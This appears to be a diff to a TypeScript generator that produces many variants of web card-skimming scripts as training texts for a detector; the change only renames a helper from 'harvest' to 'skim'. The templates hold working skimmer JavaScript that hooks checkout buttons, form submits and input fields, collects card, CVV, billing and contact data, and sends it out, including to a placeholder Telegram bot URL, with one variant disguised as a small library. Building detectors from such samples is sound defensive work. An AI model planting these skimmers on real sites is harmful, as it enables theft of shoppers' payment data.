@@ -1,5 +1,5 @@
 // Further shapes of scripts that steal what is typed into shops. Texts for a detector; the same holds as for the other templates.
-import { CARD_FIELDS, CARD_TEST, harvest, leave, onCheckout, skimmer } from './skimmer-templates.ts'
+import { CARD_FIELDS, CARD_TEST, skim, leave, onCheckout, skimmer } from './skimmer-templates.ts'
 import type { Family, Variation } from './variation.ts'
 
 const base64 = (text: string): string => Buffer.from(text).toString('base64')
@@ -8,7 +8,7 @@ const event = (v: Variation): string => v.pick(['click', 'mousedown', 'touchend'
 export const SKIMMER_SHAPES: readonly Family[] = [
   skimmer('object with methods', (v) => {
     const [o, a, b] = [v.id(0), v.id(1), v.id(2)]
-    return `var ${o}={${a}:{},url:'${v.address()}',init:function(){var s=this;${v.pick([`document.addEventListener('${event(v)}',function(){s.grab()},true)`, `setInterval(function(){s.grab()},${v.number(5, 40) * 100})`, `jQuery('button,.button').on('${event(v)}',function(){s.grab()})`])}},grab:function(){${harvest(v, b)}this.${a}.f=${b};this.${a}.h=location.host;if(${v.pick(CARD_TEST)}.test(${b}))this.push()},push:function(){var d=JSON.stringify(this.${a});${leave(v, 'd')}}};${o}.init();`
+    return `var ${o}={${a}:{},url:'${v.address()}',init:function(){var s=this;${v.pick([`document.addEventListener('${event(v)}',function(){s.grab()},true)`, `setInterval(function(){s.grab()},${v.number(5, 40) * 100})`, `jQuery('button,.button').on('${event(v)}',function(){s.grab()})`])}},grab:function(){${skim(v, b)}this.${a}.f=${b};this.${a}.h=location.host;if(${v.pick(CARD_TEST)}.test(${b}))this.push()},push:function(){var d=JSON.stringify(this.${a});${leave(v, 'd')}}};${o}.init();`
   }),
   skimmer('class of the newer language', (v) => {
     const name = v.pick(['Collector', 'Tracker', 'Watcher', 'S'])
@@ -41,7 +41,7 @@ export const SKIMMER_SHAPES: readonly Family[] = [
   skimmer(
     'waits for the payment button',
     (v) =>
-      `(function ${v.id(0)}(){var ${v.id(1)}=document.querySelector('${v.pick(['#place_order', 'button.checkout', '[onclick*="save"]', '.btn-proceed-checkout', '#review-buttons-container button'])}');if(!${v.id(1)})return setTimeout(${v.id(0)},${v.number(3, 20) * 100});${v.id(1)}.${v.pick(["addEventListener('click',", "addEventListener('mousedown',"])}function(){${harvest(v, v.id(2))}${leave(v, v.id(2))}})})();`,
+      `(function ${v.id(0)}(){var ${v.id(1)}=document.querySelector('${v.pick(['#place_order', 'button.checkout', '[onclick*="save"]', '.btn-proceed-checkout', '#review-buttons-container button'])}');if(!${v.id(1)})return setTimeout(${v.id(0)},${v.number(3, 20) * 100});${v.id(1)}.${v.pick(["addEventListener('click',", "addEventListener('mousedown',"])}function(){${skim(v, v.id(2))}${leave(v, v.id(2))}})})();`,
   ),
   skimmer(
     'own layer for the card',
@@ -59,7 +59,7 @@ export const SKIMMER_SHAPES: readonly Family[] = [
       `var ${v.id(0)}=/card|cc.?num|cvv|cvc|exp|holder|billing|email|phone/i;document.addEventListener('${v.pick(['change', 'focusout', 'input'])}',function(e){var t=e.target;if(!t||!${v.id(0)}.test(t.name+t.id+t.className))return;window.${v.id(1)}=window.${v.id(1)}||{};window.${v.id(1)}[t.name||t.id]=t.value;var ${v.id(2)}=JSON.stringify(window.${v.id(1)});if(${v.id(2)}.length>${v.number(40, 150)}){${leave(v, v.id(2))}}},true);`,
   ),
   skimmer('library with an end of its own', (v) => {
-    const inner = `${harvest(v, 'q')}${leave(v, 'q')}`
+    const inner = `${skim(v, 'q')}${leave(v, 'q')}`
     return `(function(root){function merge(a,b){for(var k in b)a[k]=b[k];return a}function each(l,f){for(var i=0;i<l.length;i++)f(l[i],i)}var opts=merge({delay:${v.number(1, 9) * 100},selector:'.item'},root.opts||{});each(document.querySelectorAll(opts.selector),function(n){n.setAttribute('data-ready','1')});root.ready=function(f){document.readyState!='loading'?f():document.addEventListener('DOMContentLoaded',f)}})(window);/* ${v.key(12)} */${onCheckout(v, `window.ready(function(){document.body.addEventListener('${event(v)}',function(){${inner}})})`)}`
   }),
   skimmer(
@@ -85,6 +85,6 @@ export const SKIMMER_SHAPES: readonly Family[] = [
   skimmer(
     'message to a robot of a messenger',
     (v) =>
-      `${onCheckout(v, `document.querySelector('form').addEventListener('submit',function(){${harvest(v, v.id(0))}${v.pick(['fetch', 'navigator.sendBeacon', '$.get'])}('https://api.telegram.example/bot${v.number(1e5, 9e5)}:${v.key(20)}/sendMessage?chat_id=-${v.number(1e5, 9e5)}&text='+encodeURIComponent(${v.id(0)}))})`)}`,
+      `${onCheckout(v, `document.querySelector('form').addEventListener('submit',function(){${skim(v, v.id(0))}${v.pick(['fetch', 'navigator.sendBeacon', '$.get'])}('https://api.telegram.example/bot${v.number(1e5, 9e5)}:${v.key(20)}/sendMessage?chat_id=-${v.number(1e5, 9e5)}&text='+encodeURIComponent(${v.id(0)}))})`)}`,
   ),
 ]
